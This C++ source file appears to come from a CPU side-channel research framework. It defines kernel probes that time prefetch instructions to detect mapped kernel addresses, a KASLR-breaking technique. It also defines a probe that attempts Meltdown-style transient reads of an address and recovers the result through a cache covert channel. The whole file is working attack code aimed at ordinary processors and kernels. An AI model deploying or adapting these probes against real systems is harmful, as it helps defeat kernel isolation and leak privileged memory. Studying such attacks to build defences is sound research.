// SPDX-License-Identifier: MIT
#include "guest/probes/kernel_probe.h"

#include <sys/syscall.h>
#include <unistd.h>

#include <algorithm>

#include "guest/attacks/covert_channel.h"
#include "guest/attacks/timing.h"
#include "guest/attacks/transient_read.h"

namespace probes {

namespace {

using attacks::time_after;
using attacks::time_before;

constexpr unsigned samples = 8;

std::uint64_t time_prefetch(std::uintptr_t address) {
    const std::uint64_t before = time_before();
    asm volatile("prefetchnta (%0)\n\tprefetcht2 (%0)\n\tlfence" ::"r"(address) : "memory");
    return time_after() - before;
}

/// The least of some samples: what is disturbed takes longer, never shorter.
class PrefetchProbe final : public KernelProbe {
public:
    explicit PrefetchProbe(bool enter_kernel) : enter_kernel_(enter_kernel) {}

    std::uint64_t measure(std::uintptr_t address) override {
        std::uint64_t least = ~std::uint64_t{0};
        for (unsigned i = 0; i < samples; ++i) {
            if (enter_kernel_) {
                syscall(SYS_getppid);
            }
            least = std::min(least, time_prefetch(address));
        }
        return least;
    }

private:
    bool enter_kernel_;
};

/// Whatever bit comes, it lands on one of the channel's lines.
class EchoProbe final : public KernelProbe {
public:
    EchoProbe()
        : reader_(attacks::make_signal_reader(attacks::Portion::Bit, attacks::Sending::InTime)) {
        usable_ = channel_.calibrate().usable();
    }

    std::uint64_t measure(std::uintptr_t address) override {
        channel_.clear();
        reader_->attempt({.victim = reinterpret_cast<const std::uint8_t*>(address),
                          .channel = channel_.base(),
                          .zero_channel = channel_.base(),
                          .window = attacks::Window::Long});
        return usable_ && channel_.receive(0).has_value() ? 0 : 1;
    }

private:
    std::unique_ptr<attacks::TransientReader> reader_;
    attacks::CovertChannel channel_;
    bool usable_ = false;
};

}  // namespace

std::unique_ptr<KernelProbe> make_prefetch_probe() {
    return std::make_unique<PrefetchProbe>(false);
}

std::unique_ptr<KernelProbe> make_entry_probe() {
    return std::make_unique<PrefetchProbe>(true);
}

std::unique_ptr<KernelProbe> make_echo_probe() {
    return std::make_unique<EchoProbe>();
}

}  // namespace probes
